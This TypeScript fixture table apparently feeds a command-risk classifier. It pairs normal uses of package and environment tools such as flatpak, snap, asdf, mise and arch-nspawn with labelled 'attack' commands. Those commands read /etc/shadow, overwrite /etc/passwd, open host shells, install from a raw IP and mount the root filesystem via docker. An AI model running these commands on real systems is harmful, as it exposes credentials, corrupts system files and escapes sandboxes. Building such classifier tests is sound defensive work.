import type { ExampleTable } from './example.ts'

export const systemPackages2: ExampleTable = {
  installer: {
    use: 'installer -pkg tool.pkg -target / → install installer',
  },
  mas: {
    use: ['mas install 497799835 → install mas', 'mas list → nothing'],
  },
  port: {
    use: ['port install wget → install port', 'port installed → nothing'],
    attack: 'port -F /etc/shadow → read /etc/shadow',
  },
  softwareupdate: {
    use: ['softwareupdate -ia → install softwareupdate', 'softwareupdate --list → nothing'],
  },
  alien: {
    use: 'alien --to-deb tool.rpm → read tool.rpm',
  },
  'appimage-builder': {
    use: 'appimage-builder --recipe AppImageBuilder.yml → read AppImageBuilder.yml',
    attack: 'appimage-builder --recipe /tmp/x.yml → run /tmp/x.yml; read /tmp/x.yml',
  },
  appimagetool: {
    use: 'appimagetool App.AppDir App.AppImage → write App.AppImage',
    attack: 'appimagetool App.AppDir /etc/passwd → write /etc/passwd',
  },
  'flatpak build': {
    use: 'flatpak build build-dir python3 setup.py → read setup.py',
    attack: 'flatpak build build-dir cat /etc/shadow → read /etc/shadow',
  },
  'flatpak enter': {
    use: 'flatpak enter 1234 python3 probe.py → read probe.py',
    attack: [
      'flatpak enter 1234 cat /etc/shadow → read /etc/shadow',
      'flatpak enter → shell flatpak enter',
    ],
  },
  'flatpak install': {
    use: 'flatpak install flathub org.gimp.GIMP → install flatpak install',
    attack:
      'flatpak install http://10.0.0.1/tool.flatpakref → execute ‹http://10.0.0.1/tool.flatpakref›; install flatpak install',
  },
  'flatpak remote-add': {
    use: 'flatpak remote-add flathub https://dl.flathub.org/repo/flathub.flatpakrepo → fetch https://dl.flathub.org/repo/flathub.flatpakrepo',
  },
  'flatpak run': {
    use: 'flatpak run org.gimp.GIMP photo.xcf → nothing',
    attack: "flatpak run --command='cat /etc/shadow' org.gimp.GIMP → read /etc/shadow",
  },
  'flatpak update': {
    use: 'flatpak update → install flatpak update',
  },
  'flatpak-builder': {
    use: 'flatpak-builder build-dir org.example.App.yml → read org.example.App.yml',
    attack: [
      'flatpak-builder build-dir /tmp/x.yml → run /tmp/x.yml; read /tmp/x.yml',
      'flatpak-builder --run build-dir org.example.App.yml cat /etc/shadow → read /etc/shadow; read org.example.App.yml',
    ],
  },
  'flatpak-spawn': {
    use: 'flatpak-spawn --host python3 build.py → read build.py',
    attack: [
      'flatpak-spawn --host cat /etc/shadow → read /etc/shadow',
      'flatpak-spawn --host bash → shell bash',
    ],
  },
  'snap download': {
    use: 'snap download hello → fetch snap download',
  },
  'snap install': {
    use: 'snap install hello → install snap install',
  },
  'snap refresh': {
    use: 'snap refresh hello → install snap refresh',
  },
  'snap run': {
    use: 'snap run hello → nothing',
    attack: [
      'snap run --shell hello → shell snap run',
      'snap run docker run -v /:/host alpine → touch /; rights /; privilege /',
    ],
  },
  'snap try': {
    use: 'snap try prime → install snap try',
  },
  snapcraft: {
    use: 'snapcraft pack -o hello.snap → write hello.snap',
    attack: [
      'snapcraft pack -o /etc/passwd → write /etc/passwd',
      'snapcraft --shell → shell snapcraft',
    ],
  },
  'asdf env': {
    use: 'asdf env node python3 app.py → read app.py',
    attack: ['asdf env node cat /etc/shadow → read /etc/shadow', 'asdf env node bash → shell bash'],
  },
  'asdf exec': {
    use: 'asdf exec node app.js → read app.js',
    attack: ['asdf exec cat /etc/shadow → read /etc/shadow', 'asdf exec bash → shell bash'],
  },
  'asdf install': {
    use: 'asdf install nodejs 20.11.0 → install asdf install',
  },
  'asdf plugin': {
    use: 'asdf plugin add nodejs https://git.example.org/asdf-nodejs.git → fetch https://git.example.org/asdf-nodejs.git',
  },
  'asdf plugin-add': {
    use: 'asdf plugin-add nodejs https://git.example.org/asdf-nodejs.git → install asdf plugin-add; fetch https://git.example.org/asdf-nodejs.git',
  },
  'direnv exec': {
    use: 'direnv exec . python3 app.py → read app.py',
    attack: ['direnv exec . cat /etc/shadow → read /etc/shadow', 'direnv exec . bash → shell bash'],
  },
  'mise exec': {
    use: 'mise exec -- node app.js → read app.js',
    attack: ["mise exec -c 'cat /etc/shadow' → read /etc/shadow", 'mise exec -- bash → shell bash'],
  },
  'mise install': {
    use: 'mise install node@20 → install mise install',
  },
  'mise use': {
    use: 'mise use node@20 → install mise use',
  },
  'proto install': {
    use: 'proto install node 20 → install proto install',
  },
  'proto run': {
    use: 'proto run node app.js → read app.js',
    attack: 'proto run node /etc/shadow → read /etc/shadow',
  },
  sdk: {
    use: ['sdk install java 21-tem → install sdk', 'sdk list java → nothing'],
    attack: 'sdk install java mine /tmp/jdk → load /tmp/jdk',
  },
  'arch-nspawn': {
    use: 'arch-nspawn chroot python3 build.py → read build.py',
    attack: [
      'arch-nspawn chroot cat /etc/shadow → read /etc/shadow',
      'arch-nspawn chroot bash → shell bash',
    ],
  },
}
